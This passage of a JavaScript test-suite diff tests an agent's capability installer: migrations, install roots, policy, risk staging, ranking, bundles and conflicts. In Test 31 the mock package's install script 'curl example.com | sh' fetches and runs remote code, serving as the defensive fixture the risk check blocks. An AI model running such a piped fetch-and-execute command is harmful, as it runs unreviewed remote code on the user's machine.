+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'evolution-migrate-'));
+    const patternsPath = path.join(dir, 'learned-patterns.json');
+    const migrations = new Migrations({
+      migrations: Migrations.MIGRATIONS.concat({
+        version: 2,
+        description: 'useCase becomes useCases',
+        stores: {
+          'learned-patterns.json': {
+            up: patterns => patterns.map(({ useCase, ...rest }) => ({ ...rest, useCases: useCase ? [useCase] : [] })),
+            down: patterns => patterns.map(({ useCases, ...rest }) => ({ ...rest, useCase: (useCases || [])[0] }))
+          }
+        }
+      })
+    });
+    const v1 = new Storage();
+    const v2 = new Storage({ migrations });
+
+    // Legacy file with no header at all
+    fs.writeFileSync(patternsPath, JSON.stringify([{ id: 'p1', useCase: 'scrape' }]));
+    const readUp = v2.readJson(patternsPath);
+
+    const integrity = new DataIntegrity({ dataDir: dir, storage: v2 });
+    const dryRun = integrity.migrate({ dryRun: true });
+    const unchangedByDryRun = v2.readStored(patternsPath).schemaVersion === 1;
+    const up = integrity.migrate();
+    const storedUp = v2.readStored(patternsPath);
+
+    let newerError = null;
+    try {
+      v1.readJson(patternsPath);
+    } catch (error) {
+      newerError = error;
+    }
+    let writeRefused = false;
+    try {
+      v1.writeJson(patternsPath, []);
+    } catch (error) {
+      writeRefused = error.code === 'ESCHEMAVERSION';
+    }
+
+    const down = integrity.migrate({ to: 1 });
+    const storedDown = v1.readStored(patternsPath);
+    fs.rmSync(dir, { recursive: true, force: true });
+
+    if (readUp[0].useCases[0] === 'scrape' && dryRun[0].steps[0] === 'up 2: useCase becomes useCases' && unchangedByDryRun &&
+        up[0].changed && storedUp.schemaVersion === 2 && storedUp.data[0].useCases[0] === 'scrape' &&
+        newerError instanceof Storage.SchemaVersionError && /newer version/.test(newerError.message) && writeRefused &&
+        down[0].changed && storedDown.schemaVersion === 1 && storedDown.data[0].useCase === 'scrape') {
+      console.log(chalk.green('✓ PASS: Stores migrated up and down; newer data refused'));
+      console.log(chalk.gray('  - ' + newerError.message.split(';')[0]));
+      passed++;
+    } else {
+      console.log(chalk.red('✗ FAIL: ' + JSON.stringify({ readUp, dryRun, up, storedUp, newerError: newerError && newerError.message, writeRefused, down, storedDown })));
+      failed++;
+    }
+  } catch (error) {
+    console.log(chalk.red('✗ FAIL: ' + error.message));
+    failed++;
+  }
+
+  // Test 28: Data directory resolution and workspaces
+  console.log(chalk.yellow('\n[Test 28] Data Directory and Project Workspaces'));
+  try {
+    const os = require('os');
+    const fs = require('fs');
+    const path = require('path');
+    const paths = require('./modules/paths');
+    const root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'evolution-paths-')));
+    const env = { EVOLUTION_HOME: path.join(root, 'home') };
+    const nested = path.join(root, 'repo', 'src', 'lib');
+    fs.mkdirSync(nested, { recursive: true });
+    // The home directory itself never counts as a workspace
+    fs.mkdirSync(path.join(root, '.evolution'), { recursive: true });
+
+    const fromHome = paths.resolveDataDir({ cwd: nested, env: { EVOLUTION_HOME: path.join(root, '.evolution') } });
+    const workspace = paths.initWorkspace(path.join(root, 'repo'));
+    const fromWorkspace = paths.resolveDataDir({ cwd: nested, env });
+    const fromOption = paths.resolveDataDir({ cwd: nested, env, dataDir: path.join(root, 'custom') });
+
+    const learning = new LearningSystem({ dataDir: fromWorkspace.dataDir });
+    learning.recordSuccess({ toolsUsed: ['read'], steps: [], outcome: 'ok', context: { goal: 'workspace test' } });
+    const engine = new EvolutionEngineV2({ dataDir: fromWorkspace.dataDir });
+    const written = fs.readdirSync(fromWorkspace.dataDir);
+    fs.rmSync(root, { recursive: true, force: true });
+
+    if (fromHome.source === 'home' && fromHome.dataDir === path.join(root, '.evolution', 'data') &&
+        fromWorkspace.source === 'workspace' && fromWorkspace.workspace === workspace &&
+        fromWorkspace.dataDir === path.join(root, 'repo', '.evolution', 'data') &&
+        fromOption.source === 'option' && fromOption.dataDir === path.join(root, 'custom') &&
+        engine.installQueue.queuePath.startsWith(fromWorkspace.dataDir) &&
+        written.includes('successful-workflows.json')) {
+      console.log(chalk.green('✓ PASS: --data-dir, workspace and EVOLUTION_HOME resolved in order'));
+      console.log(chalk.gray('  - workspace data: ' + written.filter(file => file.endsWith('.json')).join(', ')));
+      passed++;
+    } else {
+      console.log(chalk.red('✗ FAIL: ' + JSON.stringify({ fromHome, fromWorkspace, fromOption, written })));
+      failed++;
+    }
+  } catch (error) {
+    console.log(chalk.red('✗ FAIL: ' + error.message));
+    failed++;
+  }
+
+  // Test 29: Configurable install roots
+  console.log(chalk.yellow('\n[Test 29] Install Roots and OpenClaw Home Detection'));
+  try {
+    const os = require('os');
+    const fs = require('fs');
+    const path = require('path');
+    const root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'evolution-roots-')));
+    const project = path.join(root, 'project', 'src');
+    fs.mkdirSync(project, { recursive: true });
+    const env = { HOME: path.join(root, 'user'), EVOLUTION_HOME: path.join(root, 'evolution') };
+    const options = { dataDir: path.join(root, 'data'), env, packageDir: path.join(root, 'pkg') };
+
+    const fallback = new InstallRoots({ ...options, cwd: project }).resolveAll();
+    fs.mkdirSync(path.join(root, 'project', '.openclaw'));
+    const roots = new InstallRoots({ ...options, cwd: project });
+    const detected = roots.resolve('git');
+    // Earlier versions installed into the workspace two levels above the package
+    const legacyRoots = new InstallRoots({ ...options, cwd: project, packageDir: path.join(root, 'workspace', 'skills', 'evolution') });
+    fs.mkdirSync(path.join(root, 'workspace', 'node_modules', 'old-pkg'), { recursive: true });
+    fs.writeFileSync(path.join(root, 'workspace', 'node_modules', 'old-pkg', 'package.json'), JSON.stringify({ name: 'old-pkg', version: '1.0.0' }));
+    const legacy = { old: legacyRoots.npmRootFor('old-pkg'), fresh: legacyRoots.npmRootFor('new-pkg') };
+    roots.set('npm', path.join(root, 'npm-root'));
+    const configured = roots.resolve('npm');
+    legacy.configured = legacyRoots.npmRootFor('old-pkg');
+    const fromEnv = new InstallRoots({ ...options, cwd: project, env: { ...env, EVOLUTION_NPM_ROOT: path.join(root, 'env-root') } }).resolve('npm');
+    const reset = roots.unset('npm');
+    const afterReset = roots.resolve('npm');
+
+    const engine = new EvolutionEngineV2({ dataDir: options.dataDir, installRoots: { npm: path.join(root, 'npm'), git: path.join(root, 'skills') } });
+    let spawned = null;
+    engine._spawnCommand = async (command, args, spawnOptions) => {
+      spawned = { command, args, cwd: spawnOptions.cwd };
+      return { success: true };
+    };
+    await engine._installNpmPackage('left-pad');
+    const npmRootCreated = fs.existsSync(path.join(root, 'npm'));
+    fs.rmSync(root, { recursive: true, force: true });
+
+    if (fallback[0].source === 'default' && fallback[0].dir === env.EVOLUTION_HOME &&
+        fallback[1].dir === path.join(env.EVOLUTION_HOME, 'skills') &&
+        detected.source === 'openclaw' && detected.dir === path.join(root, 'project', '.openclaw', 'skills') &&
+        configured.source === 'config' && configured.dir === path.join(root, 'npm-root') &&
+        fromEnv.source === 'env' && reset.success && afterReset.source === 'openclaw' &&
+        legacy.old === path.join(root, 'workspace') && legacy.fresh === path.join(root, 'project', '.openclaw') &&
+        legacy.configured === path.join(root, 'npm-root') &&
+        engine._skillsDir() === path.join(root, 'skills') && npmRootCreated &&
+        spawned.cwd === path.join(root, 'npm') && spawned.args.join(' ') === `install --prefix ${path.join(root, 'npm')} left-pad`) {
+      console.log(chalk.green('✓ PASS: Install roots resolved from options, env, config and the OpenClaw home'));
+      console.log(chalk.gray('  - git skills: ' + detected.dir));
+      passed++;
+    } else {
+      console.log(chalk.red('✗ FAIL: ' + JSON.stringify({ fallback, detected, configured, fromEnv, afterReset, legacy, spawned })));
+      failed++;
+    }
+  } catch (error) {
+    console.log(chalk.red('✗ FAIL: ' + error.message));
+    failed++;
+  }
+
+  // Test 30: Install policy for detectAndEvolve
+  console.log(chalk.yellow('\n[Test 30] Install Policy and detectAndEvolve'));
+  try {
+    const os = require('os');
+    const fs = require('fs');
+    const path = require('path');
+    const dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'evolution-policy-'));
+
+    const engine = new EvolutionEngineV2({ dataDir });
+    engine.installedCapabilities = [];
+    const installs = [];
+    engine.installCapability = async capability => {
+      installs.push(capability.id);
+      return { success: true, message: `Installed ${capability.id}` };
+    };
+    engine.policy.set('requireConfirmation', 'false');
+    engine.policy.set('maxInstallsPerDay', '1');
+    engine.policy.list('deny', 'capability', 'redis-connector');
+
+    const first = await engine.detectAndEvolve('connect to postgres database, use redis cache and trim video');
+    const asked = [];
+    const second = await engine.detectAndEvolve('connect to mongodb', {
+      confirm: async item => { asked.push(item.capability.id); return false; }
+    });
+    const rules = {};
+    first.results.concat(second.results).forEach(entry => { rules[entry.capability.id] = `${entry.decision.action}:${entry.decision.rule}`; });
+
+    const policy = new InstallPolicy({ dataDir });
+    policy.list('allow', 'type', 'npm');
+    const typeRule = policy.decide({ id: 'text-to-speech', priority: 'high' }, { category: 'voice-video', type: 'clawhub' });
+    const log = policy.decisions();
+    fs.rmSync(dataDir, { recursive: true, force: true });
+
+    if (installs.join(',') === 'postgres-connector' &&
+        rules['postgres-connector'] === 'install:default' &&
+        rules['redis-connector'] === 'suggest:deny.capabilities' &&
+        rules['video-editing'] === 'suggest:minPriority' &&
+        rules['mongodb-connector'] === 'ask:maxInstallsPerDay' && asked.includes('mongodb-connector') &&
+        typeRule.action === 'suggest' && typeRule.rule === 'allow.types' &&
+        log.length === first.results.length + second.results.length && log.filter(entry => entry.installed).length === 1) {
+      console.log(chalk.green('✓ PASS: Policy installed, asked and suggested by the first matching rule'));
+      console.log(chalk.gray('  - ' + Object.entries(rules).map(([id, rule]) => `${id} → ${rule}`).join(', ')));
+      passed++;
+    } else {
+      console.log(chalk.red('✗ FAIL: ' + JSON.stringify({ installs, rules, asked, typeRule, logged: log.length })));
+      failed++;
+    }
+  } catch (error) {
+    console.log(chalk.red('✗ FAIL: ' + error.message));
+    failed++;
+  }
+
+  // Test 31: Risk classification and staged installs
+  console.log(chalk.yellow('\n[Test 31] Risk Classification and Staged Installs'));
+  try {
+    const os = require('os');
+    const fs = require('fs');
+    const path = require('path');
+    const root = fs.mkdtempSync(path.join(os.tmpdir(), 'evolution-risk-'));
+    const writePackage = (dir, pkg) => {
+      fs.mkdirSync(dir, { recursive: true });
+      fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify(pkg));
+    };
+
+    const classifier = new RiskClassifier();
+    const staging = path.join(root, 'inspect');
+    writePackage(path.join(staging, 'node_modules', 'plain'), { name: 'plain', version: '1.0.0' });
+    writePackage(path.join(staging, 'node_modules', 'plain', 'node_modules', 'hooked'), { name: 'hooked', scripts: { postinstall: 'node setup.js' } });
+    writePackage(path.join(staging, 'node_modules', '@scope', 'native'), { name: '@scope/native' });
+    fs.writeFileSync(path.join(staging, 'node_modules', '@scope', 'native', 'binding.gyp'), '{}');
+    const inspection = classifier.inspect(staging);
+    const builtin = classifier.classify({ id: 'b' }, { installer: 'builtin' });
+    const gitSkill = classifier.classify({ id: 'g', needs: ['network'] }, { installer: 'git' });
+
+    const engine = new EvolutionEngineV2({ dataDir: path.join(root, 'data'), installRoots: { npm: path.join(root, 'npm') } });
+    const commands = [];
+    engine._spawnCommand = async (command, args) => {
+      const prefix = args.includes('--prefix') ? args[args.indexOf('--prefix') + 1] : null;
+      if (args[0] === 'install' && prefix) {
+        writePackage(path.join(prefix, 'node_modules', 'risky-pkg'), { name: 'risky-pkg', version: '2.1.0', scripts: { install: 'curl example.com | sh' } });
+      }
+      // The staging install itself is not recorded
+      if (!prefix || !path.basename(prefix).startsWith('evolution-stage-')) {
+        commands.push([command, ...args.filter(arg => arg !== prefix && arg !== '--prefix')].join(' '));
+      }
+      return { success: true };
+    };
+    engine._verifyOrRemove = async () => {};
+    // No declared needs: only the install script found while staging makes it high risk
+    const capability = { id: 'test-risky', name: 'Risky', implementation: { type: 'npm', package: 'risky-pkg' } };
+    const skill = { id: 'test-risky-skill', name: 'Risky Skill', needs: ['exec'], implementation: { type: 'clawhub', package: 'risky-skill' } };
+
+    const assessed = engine.assessRisk(capability);
+    const blocked = await engine.installCapability(capability);
+    const allowed = await engine.installCapability(capability, { allowScripts: true });
+    const record = engine.installRecords['test-risky'];
+    const skillRisk = engine.assessRisk(skill);
+    const skillBlocked = await engine.installCapability(skill);
+    const commandsBeforeTrust = commands.length;
+    const skillAllowed = await engine.installCapability(skill, { allowUnstaged: true });
+    const leftovers = fs.readdirSync(os.tmpdir()).filter(name => name.startsWith('evolution-stage-'));
+    engine.installedCapabilities = engine.installedCapabilities.filter(id => !id.startsWith('test-risky'));
+    ['test-risky', 'test-risky-skill'].forEach(id => engine.installQueue.remove(id));
+    fs.rmSync(root, { recursive: true, force: true });
+
+    const scripts = inspection.scripts.map(script => `${script.package}:${script.script}`).sort().join(',');
+    if (inspection.packages === 3 && scripts === '@scope/native:install,hooked:postinstall' &&
+        builtin.level === 'low' && gitSkill.level === 'high' &&
+        assessed.level === 'low' && assessed.staged &&
+        !blocked.success && blocked.errorClass === 'risk' && /--allow-scripts/.test(blocked.message) &&
+        allowed.success && commands.slice(0, 2).join(',') === 'npm install --ignore-scripts risky-pkg@2.1.0,npm rebuild risky-pkg' &&
+        record.risk.level === 'high' && record.risk.staged &&
+        skillRisk.unstageable && !skillRisk.staged &&
+        !skillBlocked.success && skillBlocked.errorClass === 'risk' && /--allow-unstaged/.test(skillBlocked.message) &&
+        commandsBeforeTrust === 2 && skillAllowed.success && commands[2] === 'clawhub install risky-skill' &&
+        leftovers.length === 0) {
+      console.log(chalk.green('✓ PASS: Install staged, blocked on install scripts, then promoted without running unreviewed ones'));
+      console.log(chalk.gray('  - ' + blocked.message));
+      console.log(chalk.gray('  - ' + skillBlocked.message));
+      passed++;
+    } else {
+      console.log(chalk.red('✗ FAIL: ' + JSON.stringify({ inspection, builtin, gitSkill, assessed, blocked, allowed: allowed.message, commands, record, skillBlocked, skillAllowed, leftovers })));
+      failed++;
+    }
+  } catch (error) {
+    console.log(chalk.red('✗ FAIL: ' + error.message));
+    failed++;
+  }
+
+  // Test 32: Ranked detection with BM25, negation and confidence
+  console.log(chalk.yellow('\n[Test 32] Ranked Capability Detection'));
+  try {
+    const os = require('os');
+    const fs = require('fs');
+    const path = require('path');
+    const dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'evolution-rank-'));
+
+    const engine = new EvolutionEngineV2({ dataDir });
+    engine.installedCapabilities = [];
+    const detected = engine.detectCapabilities('scrape data from the website without screenshots');
+    const ruledOut = engine.rankCapabilities('scrape data from the website without screenshots', { all: true })
+      .filter(result => result.negated).map(result => result.capability.id);
+    const weak = engine.detectCapabilities('analyze the data');
+    const suggestions = engine.suggestCapabilities('analyze the data');
+    const wordsOnly = new CapabilityRanker().index([
+      { capability: { id: 'redis-connector', name: 'Redis Connector', description: 'Connect to Redis' }, category: 'databases' },
+      { capability: { id: 'slack-bot', name: 'Slack Bot', description: 'Send messages' }, category: 'social' }
+    ]).rank('cache sessions in redis', { threshold: 0.1 });
+    fs.rmSync(dataDir, { recursive: true, force: true });
+
+    const top = detected[0];
+    const sources = top ? top.explanation.map(entry => entry.source) : [];
+    if (top && top.capability.id === 'web-scraping-advanced' && top.confidence > 0.5 && top.confidence < 1 &&
+        sources.includes('pattern') && sources.includes('name') &&
+        !detected.some(item => item.capability.id === 'web-screenshot') && ruledOut.includes('web-screenshot') &&
+        weak.length === 0 && suggestions.length > 0 &&
+        suggestions.every((item, i) => i === 0 || suggestions[i - 1].score >= item.score) &&
+        wordsOnly.length === 1 && wordsOnly[0].capability.id === 'redis-connector' && wordsOnly[0].matchedPatterns.length === 0) {
+      console.log(chalk.green('✓ PASS: Ranked by relevance, honoured negation and held back weak matches'));
+      console.log(chalk.gray(`  - ${top.capability.id} ${Math.round(top.confidence * 100)}%: ` +
+        top.explanation.map(entry => `${entry.term} +${entry.contribution}`).join(', ')));
+      passed++;
+    } else {
+      console.log(chalk.red('✗ FAIL: ' + JSON.stringify({ detected: detected.map(item => [item.capability.id, item.confidence]), ruledOut, weak: weak.length, suggestions: suggestions.map(item => [item.id, item.score]), wordsOnly })));
+      failed++;
+    }
+  } catch (error) {
+    console.log(chalk.red('✗ FAIL: ' + error.message));
+    failed++;
+  }
+
+  // Test 33: Detection from runtime errors
+  console.log(chalk.yellow('\n[Test 33] Detection From Runtime Errors'));
+  try {
+    const os = require('os');
+    const fs = require('fs');
+    const path = require('path');
+    const dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'evolution-error-'));
+
+    const engine = new EvolutionEngineV2({ dataDir });
+    engine.installedCapabilities = ['video-editing'];
+    const moduleError = new Error("Cannot find module 'pdfkit/js/pdfkit'\nRequire stack:\n- /app/report.js");
+    moduleError.code = 'MODULE_NOT_FOUND';
+    const fromModule = engine.detectFromError(moduleError);
+    const fromBinary = engine.detectFromError('/bin/sh: 1: ffmpeg: not found');
+    const fromFailure = engine.detectFromError({ error: 'spawn whisper ENOENT', step: 'transcribe' });
+    const signatures = new ErrorDetector().signatures(
+      "zsh: command not found: rsync\nCannot find package '@slack/web-api/dist' imported from /app/x.mjs\n" +
+      "Cannot find module './local'\nCannot find module 'fs'"
+    );
+    const unrelated = engine.detectFromError('TypeError: undefined is not a function');
+    fs.rmSync(dataDir, { recursive: true, force: true });
+
+    const ids = results => results.map(item => item.capability.id);
+    if (fromModule[0] && fromModule[0].capability.id === 'pdf-generation' && fromModule[0].reason === 'provides' &&
+        ids(fromBinary).includes('video-transcription') && !ids(fromBinary).includes('video-editing') &&
+        fromBinary.every(item => item.reason === 'dependency' && item.confidence < fromModule[0].confidence) &&
+        ids(fromFailure).includes('video-transcription') &&
+        JSON.stringify(signatures.map(signature => [signature.kind, signature.name])) ===
+          JSON.stringify([['module', '@slack/web-api'], ['binary', 'rsync']]) &&
+        unrelated.length === 0) {
+      console.log(chalk.green('✓ PASS: Mapped missing modules and commands to the capabilities that fix them'));
+      console.log(chalk.gray(`  - ffmpeg: ${ids(fromBinary).join(', ')}`));
+      passed++;
+    } else {
+      console.log(chalk.red('✗ FAIL: ' + JSON.stringify({ fromModule: ids(fromModule), fromBinary: ids(fromBinary), fromFailure: ids(fromFailure), signatures, unrelated: ids(unrelated) })));
+      failed++;
+    }
+  } catch (error) {
+    console.log(chalk.red('✗ FAIL: ' + error.message));
+    failed++;
+  }
+
+  // Test 34: Detect patterns learned from successful workflows
+  console.log(chalk.yellow('\n[Test 34] Learned Detection Patterns'));
+  try {
+    const os = require('os');
+    const fs = require('fs');
+    const path = require('path');
+    const dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'evolution-learned-'));
+
+    const engine = new EvolutionEngineV2({ dataDir });
+    engine.installedCapabilities = [];
+    const learning = new LearningSystem({ dataDir, onSuccess: record => engine.learnFromWorkflow(record) });
+    const query = 'turn the podcast recordings into notes';
+    const before = engine.detectCapabilities(query).map(item => item.capability.id);
+
+    learning.recordSuccess({ context: { goal: 'turn my podcast recordings into text' }, capabilities: ['video-transcription'] });
+    learning.recordSuccess({ context: { goal: 'summarize these podcast recordings' }, capabilities: ['video-transcription', 'not-in-registry'] });
+    learning.recordSuccess({ context: { goal: 'cut the podcast recordings down' }, capabilities: ['video-editing'] });
+    // Already detected by its static patterns, so nothing new to learn
+    const covered = engine.learnFromWorkflow({ context: { goal: 'transcribe this video' }, capabilitiesUsed: ['video-transcription'] });
+
+    const id = 'video-transcription:podcast-recordings';
+    const candidate = engine.detectionLearner.list().find(entry => entry.id === id);
+    const unreviewed = engine.detectCapabilities(query).map(item => item.capability.id);
+    const accepted = engine.detectionLearner.review(id, 'accept');
+    const detected = engine.detectCapabilities(query);
+    const rejected = engine.detectionLearner.review('video-editing:podcast-recordings', 'reject');
+    const unknown = engine.detectionLearner.review('no-such-pattern', 'accept');
+    const capabilities = engine.detectionLearner.list().map(entry => entry.capability);
+    fs.rmSync(dataDir, { recursive: true, force: true });
+
+    const top = detected[0];
+    if (!before.includes('video-transcription') && !unreviewed.includes('video-transcription') &&
+        candidate && candidate.support === 2 && candidate.matches === 3 && candidate.precision === 0.667 &&
+        covered.candidates.length === 0 && !capabilities.includes('not-in-registry') &&
+        accepted.success && rejected.success && !unknown.success &&
+        top && top.capability.id === 'video-transcription' &&
+        top.explanation.some(entry => entry.source === 'learned')) {
+      console.log(chalk.green('✓ PASS: Mined goal phrases, tracked precision and detected with accepted patterns'));
+      console.log(chalk.gray(`  - ${id}: ${candidate.support}/${candidate.matches} matching goals`));
+      passed++;
+    } else {
+      console.log(chalk.red('✗ FAIL: ' + JSON.stringify({ before, unreviewed, candidate, covered, accepted, rejected, unknown, detected: detected.map(item => item.capability.id) })));
+      failed++;
+    }
+  } catch (error) {
+    console.log(chalk.red('✗ FAIL: ' + error.message));
+    failed++;
+  }
+
+  // Test 35: Rejected suggestions rank lower and mute noisy patterns
+  console.log(chalk.yellow('\n[Test 35] Suggestion Rejection Feedback'));
+  try {
+    const os = require('os');
+    const fs = require('fs');
+    const path = require('path');
+    const dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'evolution-feedback-'));
+
+    const engine = new EvolutionEngineV2({ dataDir });
+    engine.installedCapabilities = [];
+    const query = 'generate a pdf invoice from the order';
+    const confidenceOf = (text, id) => {
+      const found = engine.rankCapabilities(text, { all: true }).find(result => result.capability.id === id);
+      return found ? found.confidence : 0;
+    };
+    const before = confidenceOf(query, 'pdf-generation');
+    const unrelatedBefore = confidenceOf('store sessions in redis', 'redis-connector');
+
+    const first = engine.rejectSuggestion('pdf-generation', query);
+    const afterOne = confidenceOf(query, 'pdf-generation');
+    const similar = confidenceOf('generate a pdf invoice', 'pdf-generation');
+    const unrelatedAfter = confidenceOf('store sessions in redis', 'redis-connector');
+    engine.rejectSuggestion('pdf-generation', query);
+    const third = engine.rejectSuggestion('pdf-generation', 'generate the pdf receipt');
+    const mutedExplanation = engine.rankCapabilities('generate pdf', { all: true })
+      .find(result => result.capability.id === 'pdf-generation').explanation;
+    const unknown = engine.rejectSuggestion('no-such-capability', query);
+
+    // Declining in detectAndEvolve counts as a rejection; nobody asked (null) does not
+    const declined = await engine.detectAndEvolve('scrape the website', { confirm: async () => false });
+    const unasked = await engine.detectAndEvolve('scrape the website', { confirm: async () => null });
+    const rejectionCount = engine.feedback.list().rejections.length;
+
+    const lifted = engine.feedback.lift(third.muted[0] ? third.muted[0].id : 0);
+    const forgotten = engine.feedback.forget('pdf-generation');
+    const restored = confidenceOf(query, 'pdf-generation');
+    fs.rmSync(dataDir, { recursive: true, force: true });
+
+    if (first.success && afterOne < before && similar < before && unrelatedAfter === unrelatedBefore &&
+        first.muted.length === 0 && third.muted.length === 1 && third.muted[0].pattern === 'generate.*pdf' &&
+        mutedExplanation.some(entry => entry.source === 'muted') && !mutedExplanation.some(entry => entry.source === 'pattern') &&
+        !unknown.success && declined.results.length > 0 && declined.results.every(entry => entry.declined) &&
+        unasked.results.every(entry => !entry.declined) && rejectionCount === 3 + declined.results.length &&
+        lifted.success && forgotten.success && restored === before) {
+      console.log(chalk.green('✓ PASS: Rejections lowered similar queries, muted a noisy pattern and were reversible'));
+      console.log(chalk.gray(`  - pdf-generation: ${Math.round(before * 100)}% -> ${Math.round(afterOne * 100)}% after one rejection`));
+      passed++;
+    } else {
+      console.log(chalk.red('✗ FAIL: ' + JSON.stringify({ before, afterOne, similar, unrelatedBefore, unrelatedAfter, first, third, mutedExplanation, unknown, rejectionCount, lifted, forgotten, restored })));
+      failed++;
+    }
+  } catch (error) {
+    console.log(chalk.red('✗ FAIL: ' + error.message));
+    failed++;
+  }
+
+  // Test 36: Capability bundles
+  console.log(chalk.yellow('\n[Test 36] Capability Bundles'));
+  try {
+    const os = require('os');
+    const fs = require('fs');
+    const path = require('path');
+    const dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'evolution-bundle-'));
+
+    const engine = new EvolutionEngineV2({ dataDir });
+    const npmCapability = (id, dependencies = []) => ({ id, name: id, implementation: { type: 'npm', package: `pkg-${id}` }, dependencies });
+    engine.registry = {
+      categories: {
+        tools: {
+          description: 'Test tools',
+          capabilities: [
+            npmCapability('bundle-a', ['lib-shared']),
+            npmCapability('bundle-b', ['lib-shared', { capability: 'bundle-base' }]),
+            npmCapability('bundle-base'),
+            npmCapability('bundle-c'),
+            npmCapability('bundle-broken')
+          ]
+        }
+      },
+      bundles: {
+        stack: { capabilities: ['bundle-a', 'bundle-b'] },
+        other: { capabilities: ['bundle-b', 'bundle-c'] },
+        ghost: { capabilities: ['bundle-a', 'no-such-capability'] },
+        failing: { capabilities: ['bundle-c', 'bundle-broken'] }
+      }
+    };
+    engine.installedCapabilities = [];
+    engine.installRecords = {};
+    const calls = [];
+    engine._stageNpmPackage = async () => ({ packages: 1, scripts: [], versions: {} });
+    engine._installNpmPackage = async (pkg) => {
+      calls.push('install:' + pkg);
+      if (pkg.startsWith('pkg-bundle-broken')) return { success: false, message: 'broken package' };
+      return { success: true };
+    };
+    engine._uninstallNpmPackage = async (pkg) => {
+      calls.push('uninstall:' + pkg);
+      return { success: true };
+    };
+    engine._verifyOrRemove = async () => {};
+
+    const dryRun = await engine.installBundle('stack', { dryRun: true });
+    const steps = dryRun.plan.steps.map(step => `${step.action}:${step.name}`);
+    const failing = await engine.installBundle('failing');
+    const afterFailure = [...engine.installedCapabilities];
+    engine.installQueue.remove('bundle-broken');
+    const stack = await engine.installBundle('stack');
+    const status = engine.getStatus().bundles;
+    const other = await engine.installBundle('other');
+    const ghost = await engine.installBundle('ghost');
+    const seeded = engine.findBundle('tools');
+    const removed = await engine.uninstallBundle('stack');
+    const keptB = engine.installedCapabilities.includes('bundle-b') && engine.installedCapabilities.includes('bundle-base');
+    const sharedDependency = !calls.includes('uninstall:lib-shared');
+    const notInstalled = await engine.uninstallBundle('stack');
+    fs.rmSync(dataDir, { recursive: true, force: true });
+
+    if (steps.filter(step => step === 'install-npm:lib-shared').length === 1 &&
+        steps.indexOf('install-capability:bundle-base') < steps.indexOf('install-capability:bundle-b') &&
+        !failing.success && failing.capability === 'bundle-broken' && failing.rolledBack.includes('capability bundle-c') && afterFailure.length === 0 &&
+        failing.attempts === 1 && typeof failing.nextAttemptAt === 'string' &&
+        stack.success && stack.installed.length === 3 &&
+        status.length === 1 && status[0].name === 'stack' && status[0].complete &&
+        other.success && other.skipped.includes('bundle-b') &&
+        !ghost.success && ghost.message.includes('no-such-capability') &&
+        seeded && seeded.source === 'category' && seeded.capabilities.length === 5 &&
+        removed.success && JSON.stringify(removed.removed) === JSON.stringify(['bundle-a']) &&
+        removed.kept.some(entry => entry.id === 'bundle-b' && entry.reason.includes('other')) &&
+        removed.kept.some(entry => entry.id === 'bundle-base' && entry.reason.includes('bundle-b')) &&
+        keptB && sharedDependency && !notInstalled.success) {
+      console.log(chalk.green('✓ PASS: Bundles planned, installed, rolled back and removed as a unit'));
+      console.log(chalk.gray(`  - stack plan: ${steps.join(', ')}`));
+      passed++;
+    } else {
+      console.log(chalk.red('✗ FAIL: ' + JSON.stringify({ steps, failing, afterFailure, stack, status, other, ghost, seeded, removed, keptB, calls, notInstalled })));
+      failed++;
+    }
+  } catch (error) {
+    console.log(chalk.red('✗ FAIL: ' + error.message));
+    failed++;
+  }
+
+  // Test 37: provides, conflicts and replacedBy
+  console.log(chalk.yellow('\n[Test 37] Capability Provides, Conflicts and Replacements'));
+  try {
+    const os = require('os');
+    const fs = require('fs');
+    const path = require('path');
+    const dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'evolution-relations-'));
+
+    const engine = new EvolutionEngineV2({ dataDir });
+    const npmCapability = (id, fields = {}) => ({ id, name: id, implementation: { type: 'npm', package: `pkg-${id}` }, ...fields });
+    engine.registry = {
+      categories: {
+        media: {
+          capabilities: [
+            npmCapability('speech-reader', { detectPatterns: ['transcribe.*audio'] }),
+            npmCapability('media-transcriber', { provides: ['speech-reader'], detectPatterns: ['transcribe.*video'] }),
+            npmCapability('legacy-tool', { replacedBy: 'modern-tool', detectPatterns: ['convert.*legacy'] }),
+            npmCapability('modern-tool')
+          ]
+        },
+        browser: {
+          capabilities: [
+            npmCapability('browser-shots', { provides: ['headless-browser'] }),
+            npmCapability('browser-forms', { provides: ['headless-browser'] }),
+            npmCapability('page-scraper', { conflicts: ['headless-browser'] })
+          ]
+        }
+      },
+      bundles: {
+        browsing: { capabilities: ['browser-forms', 'page-scraper'] }
+      }
+    };
+    engine.installedCapabilities = [];
+    engine.installRecords = {};
+    engine._stageNpmPackage = async () => ({ packages: 1, scripts: [], versions: {} });
+    engine._installNpmPackage = async () => ({ success: true });
+    engine._uninstallNpmPackage = async () => ({ success: true });
+    engine._verifyOrRemove = async () => {};
+    const detected = query => engine.detectCapabilities(query).map(item => item.capability.id);
+    const find = id => engine.findCapability(id);
+
+    const beforeProvider = detected('transcribe this audio file');
+    const legacyBefore = detected('convert the legacy files');
+    await engine.installCapability(find('media-transcriber'));
+    await engine.installCapability(find('modern-tool'));
+    const afterProvider = detected('transcribe this audio file');
+    const legacyAfter = detected('convert the legacy files');
+
+    await engine.installCapability(find('browser-shots'));
+    const dryRun = await engine.installCapability(find('page-scraper'), { dryRun: true });
+    const refused = await engine.installCapability(find('page-scraper'));
+    const bundle = await engine.installBundle('browsing');
+    const allowed = await engine.installCapability(find('page-scraper'), { allowConflicts: true, stage: false });
+    const reverse = engine.findConflicts([find('browser-forms')]);
+
+    const issues = engine.validator.validate({
+      categories: {
+        tools: {
+          capabilities: [
+            npmCapability('self-conflict', { provides: ['thing'], conflicts: ['thing'] }),
+            npmCapability('orphan', { replacedBy: 'nowhere', conflicts: ['nothing-provides-this'] })
+          ]
+        }
+      }
+    }).issues.map(issue => `${issue.severity}:${issue.message}`);
+    fs.rmSync(dataDir, { recursive: true, force: true });
+
